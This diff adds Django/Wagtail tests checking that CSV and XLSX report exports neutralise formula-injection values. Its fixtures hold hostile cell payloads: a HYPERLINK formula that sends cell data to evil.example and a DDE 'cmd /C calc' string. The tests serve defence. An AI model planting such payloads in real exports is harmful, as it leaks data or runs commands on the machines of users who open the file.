@@ -400,3 +400,85 @@ def test_the_report_costs_the_same_queries_for_3_or_30_learners(client, modules,
         few = queries_for(client, report_url(small, export))
         many = queries_for(client, report_url(large, export))
         assert few == many <= 20, f"{export or 'html'}: {few} queries for 3, {many} for 30"
+
+
+# Exports never carry a formula (CSV/formula injection)
+
+HOSTILE_NAMES = [
+    ('=HYPERLINK("https://evil.example/?x="&A1', "Cliquez"),
+    ("+33 6 12", "Plus"),
+    ("-2+3", "Moins"),
+    ("@SUM(A1:A9)", "Arobase"),
+    ("\tTab", "Tab"),
+    ("\rRetour", "Retour"),
+]
+
+
+@pytest.fixture
+def hostile_cohort(modules, trainer):
+    learners = [
+        UserFactory(roles=["peer"], first_name=first, last_name=last)
+        for first, last in HOSTILE_NAMES
+    ]
+    for learner, module in zip(learners, modules * 3, strict=False):
+        enrol(learner, module)
+    return make_cohort(modules, learners, trainers=[trainer], name="=cmd|' /C calc'!A0")
+
+
+def test_the_csv_export_neutralises_cells_that_start_a_formula(client, hostile_cohort, trainer):
+    client.force_login(trainer)
+    response = client.get(report_url(hostile_cohort, "csv"))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+    names = [row[0] for row in rows[1:]]
+    assert '\'=HYPERLINK("https://evil.example/?x="&A1 Cliquez' in names
+    assert "'+33 6 12 Plus" in names and "'@SUM(A1:A9) Arobase" in names
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_the_xlsx_export_holds_no_formula(client, hostile_cohort, trainer):
+    client.force_login(trainer)
+    response = client.get(report_url(hostile_cohort, "xlsx"))
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
+    assert '\'=HYPERLINK("https://evil.example/?x="&A1 Cliquez' in names
+
+
+def test_safe_cell_leaves_ordinary_values_alone():
+    from home.spreadsheets import safe_cell
+
+    assert safe_cell("Inès Aubert") == "Inès Aubert"
+    assert safe_cell(-3) == -3 and safe_cell(None) is None
+    assert safe_cell("=1+1") == "'=1+1" and safe_cell("\r=1") == "'\r=1"
+
+
+def test_wagtail_report_exports_are_neutralised_too(client, section):
+    """Wagtail's own exports (here the aging-pages report) go through the same function."""
+    from django.contrib.auth import get_user_model
+
+    page = make_course(section("courses"), title="=HYPERLINK(evil)", lessons=0, translate=False)
+    admin = get_user_model().objects.create_superuser("root-export", "r@example.org", "x" * 16)
+    client.force_login(admin)
+    response = client.get(reverse("wagtailadmin_reports:aging_pages") + "?export=csv")
+    text = b"".join(response.streaming_content).decode()
+    assert page.title in text
+    assert "'=HYPERLINK(evil)" in text
+    assert "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
+
+
+def test_the_site_history_names_only_the_trainers_cohorts(
+    client, cohort, other_cohort, trainer, coordinator
+):
+    from wagtail.log_actions import log
+
+    for each in (cohort, other_cohort):
+        log(each, "wagtail.edit", user=coordinator)
+    client.force_login(trainer)
+    page = client.get("/admin/reports/site-history/").content.decode()
+    assert cohort.name in page and other_cohort.name not in page
+    client.force_login(coordinator)
+    page = client.get("/admin/reports/site-history/").content.decode()
+    assert cohort.name in page and other_cohort.name in page
